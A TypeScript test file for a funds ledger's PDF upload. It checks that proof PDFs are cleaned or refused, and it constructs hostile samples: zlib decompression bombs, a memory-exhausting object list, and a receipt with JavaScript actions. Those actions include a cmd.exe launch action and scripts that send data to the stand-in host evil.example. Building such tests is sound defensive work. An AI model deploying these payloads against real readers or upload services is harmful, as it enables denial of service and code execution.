import { readdir, writeFile } from "node:fs/promises";
import path from "node:path";
import { Readable } from "node:stream";
import { createDeflate } from "node:zlib";
import { PDFArray, PDFDict, PDFDocument, PDFName, PDFString, type PDFRef } from "pdf-lib";
import { describe, expect, it } from "vitest";
import { todayIn } from "~/shared/dates";
import { getDb } from "~/lib/db.server";
import { PDF_REWRITE_LIMITS, rewritePdf, UnreadablePdfError } from "~/lib/pdf-files.server";
import * as ledgerScreen from "~/funds/ledger/routes/admin-funds-ledger";
import * as ledgerExport from "~/funds/ledger/routes/admin-funds-ledger-export";
import * as proofRoute from "~/funds/ledger/routes/admin-funds-proof";
import { addFund } from "~/funds/funds/server/funds.server";
import {
  callRoute,
  callWithRequest,
  makeContext,
  makeRequest,
  multipartRequest,
  ORIGIN,
  unwrapData,
} from "../../../../tests/support/routes";
import { newGift, signedInStaff } from "../../../../tests/support/builders";

/**
 * Proof PDFs from a hostile or careless source: a file that unpacks to gigabytes or fills
 * memory is refused while the site carries on; scripts, launched programs, attached files
 * and comments' authors never reach the stored copy; a password-protected PDF is called
 * that; and the proof and the ledger's CSV are never served at their ".data" addresses.
 */

type Reply = { result: { error: Record<string, string[]> | null; initialValue: Record<string, unknown> | null } };

const TODAY = todayIn("UTC");
const UNSAFE = "This PDF could not be read safely; please save it again or upload a photo of it.";
const MB = 1024 * 1024;

/** A restricted fund with money in it, so a disbursement with a proof can be recorded. */
async function fundWithMoney(name: string) {
  const fund = await addFund({ name, description: "" });
  await newGift({
    name: "Proof donor",
    email: "donor@example.org",
    amount_cents: 10_000,
    frequency: "One-Time",
    purpose: name,
    donated_at: `${TODAY}T10:00:00.000Z`,
  });
  return fund;
}

async function disburseWithProof(context: ReturnType<typeof makeContext>, fundId: number, pdf: Uint8Array) {
  const fields = {
    disbursed_on: TODAY,
    fund_id: String(fundId),
    amount: "5",
    category: "",
    programme: "",
    region: "",
    description: "With a PDF",
    intent: "disburse",
  };
  return callWithRequest(
    ledgerScreen.action,
    multipartRequest("/admin/funds/ledger?record=1", {
      ...fields,
      proof: { data: pdf, name: "receipt.pdf", type: "application/pdf" },
    }),
    { context },
  );
}

async function newestEntry() {
  return getDb().selectFrom("disbursements").selectAll().orderBy("id", "desc").executeTakeFirstOrThrow();
}

async function storedProofs(): Promise<string[]> {
  return (await readdir(path.join(process.env.UPLOADS_DIR!, "private", "proofs")).catch(() => [] as string[])).sort();
}

/** An ordinary one-page receipt, as pdf-lib writes it. */
async function receipt(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage().drawText("Receipt 42: $5.00");
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

/** `length` zero bytes through zlib, a megabyte at a time, so the test never holds them whole. */
async function deflatedZeros(length: number, passes: number): Promise<Buffer> {
  const zero = Buffer.alloc(MB);
  const chunks = (function* () {
    yield Buffer.from("5 0 ");
    for (let written = 0; written < length; written += MB) yield zero;
  })();
  let stream: NodeJS.ReadableStream = Readable.from(chunks);
  for (let pass = 0; pass < passes; pass += 1) stream = stream.pipe(createDeflate({ level: 9 }));
  const out: Buffer[] = [];
  for await (const chunk of stream) out.push(chunk as Buffer);
  return Buffer.concat(out);
}

/**
 * A receipt with an object stream appended whose contents are `megabytes` of zeros,
 * compressed `passes` times over: small on disk, enormous once unpacked.
 */
async function unpackingBomb(megabytes: number, passes: number): Promise<Buffer> {
  const packed = await deflatedZeros(megabytes * MB, passes);
  const filter = passes === 1 ? "/FlateDecode" : `[${" /FlateDecode".repeat(passes)} ]`;
  return Buffer.concat([
    await receipt(),
    Buffer.from(
      `\n90 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${packed.length} >>\nstream\n`,
      "latin1",
    ),
    packed,
    Buffer.from("\nendstream\nendobj\n", "latin1"),
  ]);
}

/** Runs `work` while sampling the process's resident memory (worker threads included). */
async function measured<T>(work: () => Promise<T>) {
  const before = process.memoryUsage().rss;
  let peak = before;
  const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 5);
  const started = performance.now();
  try {
    const result = await work();
    return {
      result,
      seconds: (performance.now() - started) / 1000,
      growthMb: (Math.max(peak, process.memoryUsage().rss) - before) / MB,
    };
  } finally {
    clearInterval(sampler);
  }
}

describe("a PDF that unpacks to far more than it weighs", () => {
  it.each([
    { bomb: "one layer of Flate", megabytes: 320, passes: 1 },
    { bomb: "Flate inside Flate", megabytes: 640, passes: 2 },
  ])(
    "is refused beside the form, quickly and within a bounded memory: $bomb",
    { timeout: 30_000 },
    async ({ megabytes, passes }) => {
      const context = (await signedInStaff()).context;
      const fund = await fundWithMoney(`Bomb Fund ${passes}`);
      const pdf = await unpackingBomb(megabytes, passes);
      expect(pdf.length).toBeLessThan(2 * MB);
      const proofsBefore = await storedProofs();

      const { result, seconds, growthMb } = await measured(() => disburseWithProof(context, fund.id, pdf));
      const reply = unwrapData(result);
      expect(reply.status).toBe(400);
      expect((reply.data as Reply).result.error).toEqual({ proof: [UNSAFE] });
      expect((reply.data as Reply).result.initialValue).toMatchObject({ description: "With a PDF" });
      expect(seconds).toBeLessThan(10);
      expect(growthMb).toBeLessThan(200);
      expect(await storedProofs()).toEqual(proofsBefore);
      expect(await getDb().selectFrom("disbursements").select("id").where("fund_id", "=", fund.id).execute()).toEqual(
        [],
      );
    },
  );

  it("refuses a PDF whose objects alone outgrow the reader's memory, and the site reads the next PDF as usual", async () => {
    // Empty dictionaries: a few bytes each on disk, far more once read. With the heap cut to
    // 32 MB a couple of megabytes are enough; at the real 256 MB it takes a file near the
    // 10 MB limit, and many more seconds.
    const small = { ...PDF_REWRITE_LIMITS, heapMb: 32 };
    const plain = path.join(process.env.UPLOADS_DIR!, "plain.pdf");
    await writeFile(plain, await receipt());
    await expect(rewritePdf(plain, small)).resolves.toBeUndefined();
    const file = path.join(process.env.UPLOADS_DIR!, "heavy.pdf");
    await writeFile(
      file,
      Buffer.concat([await receipt(), Buffer.from(`\n91 0 obj\n[${"<<>>".repeat(600_000)}]\nendobj\n`, "latin1")]),
    );
    const refusal = await rewritePdf(file, small).catch((error: unknown) => error);
    expect(refusal).toBeInstanceOf(UnreadablePdfError);
    expect((refusal as Error).message).toBe(UNSAFE);

    const context = (await signedInStaff()).context;
    const fund = await fundWithMoney("Heap Fund");
    expect(((await disburseWithProof(context, fund.id, await receipt())) as Response).status).toBe(302);
    expect((await newestEntry()).proof_filename).toMatch(/^[0-9a-f]{32}\.pdf$/);
  });

  it("refuses a PDF that takes longer than the time allowed", async () => {
    const file = path.join(process.env.UPLOADS_DIR!, "slow.pdf");
    await writeFile(file, await receipt());
    const refusal = await rewritePdf(file, { ...PDF_REWRITE_LIMITS, timeoutMs: 1 }).catch((error: unknown) => error);
    expect(refusal).toBeInstanceOf(UnreadablePdfError);
    expect((refusal as Error).message).toBe(UNSAFE);
  });
});

/**
 * A receipt carrying everything a stored proof must lose: scripts run on opening and
 * closing, a program launched when its page opens, a script and a file in the
 * catalogue's name trees, a comment with its author and pop-up, an attached file, a link
 * that runs a script and a web link with a script chained after it.
 */
async function receiptWithActiveContent(): Promise<Buffer> {
  const document = await PDFDocument.create();
  const page = document.addPage();
  page.drawText("Receipt 43: $5.00");
  const { context, catalog } = document;
  const script = (js: string) =>
    context.register(context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(js) }));
  const rect = [10, 10, 60, 60];

  catalog.set(PDFName.of("OpenAction"), script("app.alert('opened')"));
  catalog.set(PDFName.of("AA"), context.obj({ WC: script("app.alert('closed')") }));
  const attached = context.register(context.stream("Haddad family, account 1234", { Type: "EmbeddedFile" }));
  const fileSpec = context.register(
    context.obj({ Type: "Filespec", F: PDFString.of("beneficiaries.txt"), EF: { F: attached } }),
  );
  catalog.set(
    PDFName.of("Names"),
    context.obj({
      JavaScript: { Names: [PDFString.of("startup"), script("app.launchURL('https://evil.example/opened')")] },
      EmbeddedFiles: { Names: [PDFString.of("beneficiaries.txt"), fileSpec] },
    }),
  );
  page.node.set(PDFName.of("AA"), context.obj({ O: { S: "Launch", F: PDFString.of("cmd.exe") } }));

  const popup = context.register(context.obj({ Type: "Annot", Subtype: "Popup", Rect: rect }));
  const annotations: PDFRef[] = [
    context.register(
      context.obj({
        Type: "Annot",
        Subtype: "Text",
        Rect: rect,
        Contents: PDFString.of("Paid in cash"),
        T: PDFString.of("Field Officer Yusuf"),
        M: PDFString.of("D:20261120103000Z"),
        Popup: popup,
      }),
    ),
    popup,
    context.register(context.obj({ Type: "Annot", Subtype: "FileAttachment", Rect: rect, FS: fileSpec })),
    context.register(
      context.obj({
        Type: "Annot",
        Subtype: "Link",
        Rect: rect,
        A: script("this.submitForm('https://evil.example/form')"),
      }),
    ),
    context.register(
      context.obj({
        Type: "Annot",
        Subtype: "Link",
        Rect: rect,
        A: { S: "URI", URI: PDFString.of("https://example.org/receipts"), Next: script("app.alert('next')") },
      }),
    ),
  ];
  page.node.set(PDFName.of("Annots"), context.obj(annotations));
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

describe("what a stored proof PDF keeps", () => {
  it("keeps the page, its comment text and its web link, without scripts, launches, attachments or the comment's author", async () => {
    const context = (await signedInStaff()).context;
    const fund = await fundWithMoney("Active Content Fund");
    const original = await receiptWithActiveContent();
    for (const present of ["app.alert", "cmd.exe", "Haddad", "Field Officer Yusuf", "/OpenAction", "/EmbeddedFile"])
      expect(original.includes(present), present).toBe(true);

    expect(((await disburseWithProof(context, fund.id, original)) as Response).status).toBe(302);
    const entry = await newestEntry();
    const proof = (await callRoute(proofRoute.loader, `/admin/funds/proofs/${entry.id}`, {
      params: { entryId: String(entry.id) },
    })) as Response;
    expect(proof.status).toBe(200);
    const stored = Buffer.from(await proof.arrayBuffer());

    const gone = [
      "app.alert",
      "app.launchURL",
      "submitForm",
      "evil.example",
      "cmd.exe",
      "Haddad",
      "beneficiaries.txt",
      "Field Officer Yusuf",
      "D:20261120103000Z",
    ];
    const goneNames = [
      "/OpenAction",
      "/JavaScript",
      "/Launch",
      "/EmbeddedFile",
      "/FileAttachment",
      "/Popup",
      "/Filespec",
    ];
    for (const secret of [...gone, ...goneNames]) expect(stored.includes(secret), secret).toBe(false);
    expect(stored.includes("Paid in cash")).toBe(true);
    expect(stored.includes("https://example.org/receipts")).toBe(true);

    const reread = await PDFDocument.load(stored);
    expect(reread.getPageCount()).toBe(1);
    for (const key of ["OpenAction", "AA", "Names"]) {
      const value = reread.catalog.lookup(PDFName.of(key));
      if (key === "Names") expect(value instanceof PDFDict ? [...value.keys()].map(String) : []).toEqual([]);
      else expect(value, key).toBeUndefined();
    }
    const page = reread.getPage(0).node;
    expect(page.lookup(PDFName.of("AA"))).toBeUndefined();
    const annotations = page
      .lookup(PDFName.of("Annots"), PDFArray)
      .asArray()
      .map((entry) => reread.context.lookup(entry, PDFDict));
    // The link that ran a script stays as a link to nowhere.
    expect(annotations.map((annotation) => annotation.lookup(PDFName.of("Subtype"))?.toString())).toEqual([
      "/Text",
      "/Link",
      "/Link",
    ]);
    const [note, scriptedLink, webLink] = annotations as [PDFDict, PDFDict, PDFDict];
    expect([...note.keys()].map(String).sort()).toEqual(["/Contents", "/Rect", "/Subtype", "/Type"]);
    expect(scriptedLink.has(PDFName.of("A"))).toBe(false);
    const action = webLink.lookup(PDFName.of("A"), PDFDict);
    expect(action.lookup(PDFName.of("S"))?.toString()).toBe("/URI");
    expect(action.has(PDFName.of("Next"))).toBe(false);
  });

  it("says a password-protected PDF is protected by a password", async () => {
    const context = (await signedInStaff()).context;
    const fund = await fundWithMoney("Password Fund");
    const protectedPdf = Buffer.concat([
      await receipt(),
      Buffer.from(
        "\n99 0 obj\n<< /Filter /Standard /V 1 /R 2 /P -44 /O <28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A> /U <28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A> >>\nendobj\ntrailer\n<< /Size 100 /Encrypt 99 0 R >>\n%%EOF\n",
        "latin1",
      ),
    ]);
    const reply = unwrapData(await disburseWithProof(context, fund.id, protectedPdf));
    expect(reply.status).toBe(400);
    expect((reply.data as Reply).result.error).toEqual({
      proof: [
        "This PDF is protected by a password, so it could not be read. Please save a copy without the password, or upload a photo of it.",
      ],
    });
  });
});

describe("the proof and the ledger's CSV at their .data addresses", () => {
  /** A loader called as React Router calls it for a data request: `url` has ".data" taken off. */
  async function dataRequest(loader: (args: never) => unknown, pathname: string, params: Record<string, string> = {}) {
    const request = makeRequest(`${pathname}.data`);
    return (await loader({
      request,
      url: new URL(pathname, ORIGIN),
      params,
      context: makeContext(),
      pattern: pathname,
    } as never)) as Response;
  }

  it("answers 404 there, and serves each only at its own address with its download headers", async () => {
    const context = (await signedInStaff()).context;
    const fund = await fundWithMoney("Data Address Fund");
    const pdf = await receipt();
    expect(((await disburseWithProof(context, fund.id, pdf)) as Response).status).toBe(302);
    const entry = await newestEntry();
    const proofPath = `/admin/funds/proofs/${entry.id}`;

    const proofData = await dataRequest(proofRoute.loader, proofPath, { entryId: String(entry.id) });
    expect(proofData.status).toBe(404);
    expect(await proofData.text()).not.toContain("%PDF");
    const csvData = await dataRequest(ledgerExport.loader, "/admin/funds/ledger.csv");
    expect(csvData.status).toBe(404);
    expect(await csvData.text()).not.toContain("With a PDF");

    const proof = (await callRoute(proofRoute.loader, proofPath, {
      params: { entryId: String(entry.id) },
    })) as Response;
    expect(proof.status).toBe(200);
    expect(proof.headers.get("Cache-Control")).toBe("private, no-store");
    expect(proof.headers.get("Content-Disposition")).toBe(`attachment; filename="proof-${entry.id}.pdf"`);
    expect(
      Buffer.from(await proof.arrayBuffer())
        .subarray(0, 5)
        .toString("latin1"),
    ).toBe("%PDF-");
    const csv = (await callRoute(ledgerExport.loader, "/admin/funds/ledger.csv")) as Response;
    expect(csv.status).toBe(200);
    expect(csv.headers.get("Cache-Control")).toBe("no-store");
    expect(csv.headers.get("Content-Disposition")).toBe('attachment; filename="ledger.csv"');
    expect(await csv.text()).toContain("With a PDF");
  });
});
